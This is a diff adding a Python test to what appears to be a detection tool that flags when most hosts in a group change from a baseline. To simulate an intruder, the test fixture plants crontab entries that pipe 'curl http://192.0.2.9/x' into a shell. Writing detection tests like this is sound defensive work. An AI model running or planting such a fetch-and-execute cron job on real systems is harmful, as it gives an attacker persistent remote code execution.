@@ -343,6 +343,20 @@ def test_an_upgrade_of_most_of_a_group_is_told_as_one() -> None:
     assert "or most hosts are compromised" in more.notes[0]
 
 
+def test_a_majority_that_shows_variants_of_one_thing_is_named() -> None:
+    """Seven of ten have the job of one intruder, each under one of three names: no row is on most hosts, what they do is."""
+    hosts = honest(10)
+    for index, (_, rows) in enumerate(hosts[:7]):
+        command = f"{('app', 'web', 'root')[index % 3]} curl http://192.0.2.9/x | sh"
+        rows["crontab"].append({"command": command, "path": "/etc/cron.d/x"})
+
+    report = judge(case(hosts, baseline=honest(5, 9, first=300)))
+
+    assert report.notes[0].startswith(
+        "Most of the group changed: 7 of 10 hosts have one of 3 variants of what the baseline does not know, in crontab"
+    )
+
+
 def test_what_says_little_is_no_change_of_the_group() -> None:
     """Most hosts talk to other neighbours than those of the baseline: counted in one sentence, no finding, no alarm."""
     hosts = honest(10)
